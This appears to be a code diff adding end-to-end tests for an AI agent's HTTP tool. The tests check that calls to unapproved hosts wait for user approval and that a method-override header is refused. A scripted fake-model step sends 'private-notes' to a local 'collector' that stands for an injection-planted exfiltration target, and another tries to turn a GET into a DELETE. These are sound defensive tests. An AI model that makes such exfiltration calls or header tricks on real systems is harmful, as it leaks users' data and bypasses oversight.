@@ -1,4 +1,5 @@
 import { existsSync, readFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
 import { eq } from "drizzle-orm";
 import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
 import { INVALID_KEY_STEP, startFakeModel, type FakeModel, type ScriptedStep } from "@/e2e/fakes/openai";
@@ -67,6 +68,20 @@ async function decision(user: { id: string }, conversationId: string, toolCallId
 }
 
 const createIssue = (title: string): ScriptedStep => ({ toolCalls: [{ name: "github-create-issue", arguments: { owner: "octocat", repo: "hello-world", title } }] });
+
+/** A host outside Patchbay that records what reaches it (a collector an injected instruction points at). */
+type Outside = { url: string; host: string; received: { method: string; url: string; headers: Record<string, unknown> }[]; server: Server };
+async function startOutside(): Promise<Outside> {
+  const received: Outside["received"] = [];
+  const server = createServer((request, response) => {
+    received.push({ method: request.method ?? "", url: request.url ?? "", headers: request.headers });
+    response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ ok: true }));
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const host = `127.0.0.1:${(server.address() as { port: number }).port}`;
+  return { url: `http://${host}`, host, received, server };
+}
+const apiCall = (endpoint: string, extra: Record<string, unknown> = {}): ScriptedStep => ({ toolCalls: [{ name: "api-call", arguments: { endpoint, method: "GET", ...extra } }] });
 
 beforeAll(async () => {
   model = await startFakeModel();
@@ -145,6 +160,89 @@ describe("the agent routes", () => {
     expect(github.createdIssues.length).toBe(before);
     const toModel = JSON.parse(model.requests.at(-1)!.body) as { messages: { role: string; content: string }[] };
     expect(toModel.messages.find((message) => message.role === "tool" && message.content.includes("denied"))).toBeDefined();
+  });
+
+  it("asks before api-call reaches a host not approved in this conversation, even with GET; once approved, that host runs for the rest of the conversation", async () => {
+    const carol = await createUser("agent-carol");
+    const collector = await startOutside();
+    const other = await startOutside();
+    process.env.HTTP_TOOL_ALLOWED_HOSTS = "127.0.0.1";
+    try {
+      const { id, list } = await start(carol, "Summarise octocat/hello-world", [apiCall(`${collector.url}/collect?data=private-notes`)]);
+      const held = lastCall(list)!;
+      expect(held).toMatchObject({ toolId: "api-call", status: "pending_approval", input: { endpoint: `${collector.url}/collect?data=private-notes`, method: "GET" } });
+      expect(collector.received).toEqual([]);
+
+      // Approved: the call runs once, and later GETs to the same host run without asking; another host still asks.
+      const approved = await events(await decision(carol, id, held.toolCallId, "approve", [apiCall(`${collector.url}/again`), apiCall(`${other.url}/elsewhere`)]));
+      // Each call's latest state, in the order the calls were made.
+      const calls = [...new Map(approved.filter((event) => event.type === "tool").map((event) => [event.call!.toolCallId, event.call!])).values()];
+      expect(calls.map((call) => [call.status, (call.input as { endpoint: string }).endpoint])).toEqual([
+        ["succeeded", `${collector.url}/collect?data=private-notes`],
+        ["succeeded", `${collector.url}/again`],
+        ["pending_approval", `${other.url}/elsewhere`],
+      ]);
+      expect(collector.received.map((request) => request.url)).toEqual(["/collect?data=private-notes", "/again"]);
+      expect(other.received).toEqual([]);
+      const deny = await events(await decision(carol, id, lastCall(approved)!.toolCallId, "deny", [{ text: "Not sent." }]));
+      expect(textOf(deny)).toBe("Not sent.");
+
+      // A write to an approved host still waits; a new conversation starts with no host approved.
+      const write = await events(await say(carol, id, "post it", [apiCall(`${collector.url}/post`, { method: "POST", body: { a: 1 } })]));
+      expect(lastCall(write)).toMatchObject({ status: "pending_approval", input: { method: "POST" } });
+      await events(await decision(carol, id, lastCall(write)!.toolCallId, "deny", [{ text: "Fine." }]));
+      const fresh = await start(carol, "again, elsewhere", [apiCall(`${collector.url}/fresh`)]);
+      expect(lastCall(fresh.list)).toMatchObject({ status: "pending_approval" });
+      expect(collector.received.map((request) => request.url)).toEqual(["/collect?data=private-notes", "/again"]);
+    } finally {
+      delete process.env.HTTP_TOOL_ALLOWED_HOSTS;
+      await Promise.all([collector, other].map(({ server }) => new Promise((resolve) => server.close(resolve))));
+    }
+  });
+
+  it("runs a waiting GET once another call approved its host", async () => {
+    const erin = await createUser("agent-erin");
+    const first = await startOutside();
+    const second = await startOutside();
+    process.env.HTTP_TOOL_ALLOWED_HOSTS = "127.0.0.1";
+    const get = (endpoint: string) => ({ name: "api-call", arguments: { endpoint } });
+    const latest = (list: Event[]) => [...new Map(list.filter((event) => event.type === "tool").map((event) => [event.call!.toolCallId, event.call!])).values()];
+    try {
+      const { id, list } = await start(erin, "Fetch them all", [{ toolCalls: [get(`${first.url}/a`), get(`${second.url}/b1`), get(`${second.url}/b2`)] }]);
+      const [a] = latest(list);
+      expect(a).toMatchObject({ status: "pending_approval" });
+
+      // Approving the first host runs that call; the two calls to the second host then both wait.
+      const afterA = latest(await events(await decision(erin, id, a!.toolCallId, "approve")));
+      expect(afterA.map((call) => call.status)).toEqual(["succeeded", "pending_approval", "pending_approval"]);
+      expect(second.received).toEqual([]);
+
+      // Approving one of them approves the host: the other runs without a second question.
+      const afterB = latest(await events(await decision(erin, id, afterA[1]!.toolCallId, "approve", [{ text: "All fetched." }])));
+      expect(afterB.map((call) => call.status)).toEqual(["succeeded", "succeeded"]);
+      expect(second.received.map((request) => request.url)).toEqual(["/b1", "/b2"]);
+      expect(first.received.map((request) => request.url)).toEqual(["/a"]);
+    } finally {
+      delete process.env.HTTP_TOOL_ALLOWED_HOSTS;
+      await Promise.all([first, second].map(({ server }) => new Promise((resolve) => server.close(resolve))));
+    }
+  });
+
+  it("refuses a method-override header on api-call: a GET never becomes a DELETE at the service", async () => {
+    const dave = await createUser("agent-dave");
+    const service = await startOutside();
+    process.env.HTTP_TOOL_ALLOWED_HOSTS = "127.0.0.1";
+    try {
+      const { id, list } = await start(dave, "Tidy up", [apiCall(`${service.url}/things/1`, { headers: { "X-HTTP-Method-Override": "DELETE" } })]);
+      const call = lastCall(list)!;
+      const settled = call.status === "pending_approval" ? lastCall(await events(await decision(dave, id, call.toolCallId, "approve", [{ text: "Done." }])))! : call;
+      expect(service.received).toEqual([]);
+      expect(settled).toMatchObject({ status: "failed" });
+      expect(JSON.stringify(settled.output)).toMatch(/X-HTTP-Method-Override/);
+    } finally {
+      delete process.env.HTTP_TOOL_ALLOWED_HOSTS;
+      await new Promise((resolve) => service.server.close(resolve));
+    }
   });
 
   it("shows a provider 401 plainly and the conversation goes on", async () => {
